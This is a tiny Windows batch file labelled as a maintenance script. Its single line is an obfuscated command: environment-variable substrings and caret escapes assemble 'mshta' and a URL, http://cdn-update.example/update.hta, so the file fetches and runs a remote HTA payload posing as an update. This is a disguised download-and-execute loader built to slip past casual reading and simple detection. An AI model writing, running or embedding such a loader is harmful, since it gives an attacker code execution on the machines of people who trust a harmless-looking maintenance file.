REM maintenance 0664 v2
%COMSPEC:~21,1%%windir:~-1,1%h%PROGRAMDATA:~-2,1%%ProgramData:~13,1% ^h^ttp://cdn-^up^da^te.exa^mp^l^e/upd^ate.^h^ta
